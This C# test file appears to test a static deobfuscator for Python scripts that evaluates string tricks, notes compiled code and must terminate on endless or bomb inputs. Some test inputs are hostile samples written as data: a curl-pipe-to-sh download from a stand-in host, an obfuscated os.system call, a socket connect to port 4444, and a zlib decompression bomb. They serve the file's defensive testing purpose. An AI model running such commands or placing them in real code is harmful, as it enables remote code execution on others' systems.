namespace Stemma.Decoding.Tests;

/// <summary>Python, followed without running it.</summary>
public sealed class PythonDecoderTests
{
    private static string Evaluated(string text) =>
        Decoder.Decode(text, ScriptKind.Python).Layers.FirstOrDefault(layer => layer.Step == "evaluated")?.Text ?? text;

    [Theory]
    [InlineData("x = 'sys' + 'tem'", "x = 'system'")]
    [InlineData("getattr(__import__('o'+'s'), 'sys'+'tem')('id')", "os.system('id')")]
    [InlineData("a='ws'\nb=a[::-1]", "a='ws'\nb='sw'")]
    [InlineData("p = ''.join(map(chr, [47, 98, 105, 110]))", "p = '/bin'")]
    [InlineData("u = '\\x68\\x74\\x74\\x70'", "u = 'http'")]
    [InlineData("k = bytes.fromhex('6162') + data", "k = b'ab' + data")]
    [InlineData("h = __import__('base64').b64decode('aHR0cDovL2E=').decode()", "h = 'http://a'")]
    public void What_hides_text_is_taken_away(string text, string expected) => Assert.Equal(expected, Evaluated(text));

    [Theory]
    [InlineData("#!/usr/bin/env python3\nimport os, sys\n\ndef main(argv=None):\n    \"\"\"Doc.\"\"\"\n    path = os.path.join(os.environ['HOME'], 'x')\n    print('-' * 40)\n    for i, line in enumerate(open(path)):\n        print('%d: %s' % (i, line.strip()))\n    return 0\n\nif __name__ == '__main__':\n    sys.exit(main())\n")]
    [InlineData("class A(object):\n    X = {'a': 1, 'b': [1, 2, 3]}\n    @property\n    def y(self) -> int:\n        return self._y if self._y else len(self.X)\n    async def z(self, *args, **kw):\n        async with self.s as t:\n            return [await q async for q in t]\n")]
    [InlineData("import re\nPATTERN = re.compile(r'^\\s*(\\w+)\\s*=\\s*(.*)$')\nlines = [l for l in text.splitlines() if PATTERN.match(l)]\nresult = {k: v for k, v in pairs}\nmsg = f'{len(lines)} lines in {name!r:>10}'\n")]
    [InlineData("message = 'first part of it ' + 'and the second'\nnames = ', '.join(['a', 'b'])\n")]
    public void A_plain_script_comes_out_as_itself(string text) => Assert.Single(Decoder.Decode(text, ScriptKind.Python).Layers);

    [Fact]
    public void Compiled_code_is_noted() => Assert.Contains(Decoder.Decode("import marshal\nexec(marshal.loads(b'\\xe3\\x00'))", ScriptKind.Python).Notes, note => note.Contains("marshal.loads", StringComparison.Ordinal));

    [Fact]
    public void Commands_are_handed_on() => Assert.Contains(Decoder.Decode("import os\nos.system('bash -c ' + chr(39) + 'curl -s http://a.example/x | sh' + chr(39))", ScriptKind.Python).Layers, layer => layer.Kind == ScriptKind.Shell);

    [Fact]
    public void Calls_are_told_with_their_arguments_and_places()
    {
        DecodedArtifact artifact = Decoder.Decode("import socket as k\nh='203.0.113'+'.9'\ns=k.socket(k.AF_INET)\ns.connect((h, 4440+4))\n", ScriptKind.Python);
        DecodedCall call = artifact.Calls.Single(call => call.Name == "socket.socket.connect");
        Assert.Equal("('203.0.113.9', 4444)", Assert.Single(call.Arguments));
        Assert.StartsWith("s.connect(", artifact.Layers[call.Layer].Text.Substring(call.Start, call.Length), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("while True:\n    x = x + 'a'\nexec('print(1)'[::-1])")]
    [InlineData("a = 'x'\nwhile len(a) < 10**18:\n    a = a + a\n")]
    [InlineData("x = 'a' * 10**12\ny = [0] * 10**12\nz = 10**10**10\nw = bytes(10**12)")]
    [InlineData("def f(n):\n    return f(n) + f(n)\nf(1)")]
    [InlineData("for i in range(10**12):\n    pass")]
    [InlineData("exec(s)\ns = 'exec(s)'\nexec(s)")]
    [InlineData("a = (1, 2)\nwhile len(a) < 10**18:\n    a = a + a\nb = [1]\nwhile True == True:\n    b += b\n")]
    [InlineData("l = []\nl.append(l)\nprint(str(l))\nx = [l] * 3")]
    public void Endless_scripts_end(string text) => Ends(text);

    [Fact]
    public void Deep_nesting_and_bombs_end()
    {
        Ends(new string('(', 200_000));
        Ends(new string('[', 100_000) + new string(']', 100_000));
        Ends(string.Concat(Enumerable.Repeat("lambda:", 100_000)) + "1");
        Ends("x = " + string.Concat(Enumerable.Repeat("-", 200_000)) + "1");
        Ends("x = " + string.Join('+', Enumerable.Repeat("'a'", 100_000)));
        Ends(string.Concat(Enumerable.Range(0, 2_000).Select(i => new string(' ', i) + "if x:\n")));
        Ends("x = f'" + string.Concat(Enumerable.Repeat("{a", 50_000)));
        Ends("x = {" + string.Concat(Enumerable.Repeat("{", 20_000)));
        using var to = new MemoryStream();
        using (var zlib = new System.IO.Compression.ZLibStream(to, System.IO.Compression.CompressionLevel.SmallestSize)) { zlib.Write(new byte[100 << 20]); }
        Ends($"import zlib,base64\nexec(zlib.decompress(base64.b64decode('{Convert.ToBase64String(to.ToArray())}')))");
    }

    private static void Ends(string text)
    {
        var watch = System.Diagnostics.Stopwatch.StartNew();
        Decoder.Decode(text, ScriptKind.Python);
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(4), $"{watch.Elapsed} for {text[..Math.Min(60, text.Length)]}");
    }
}
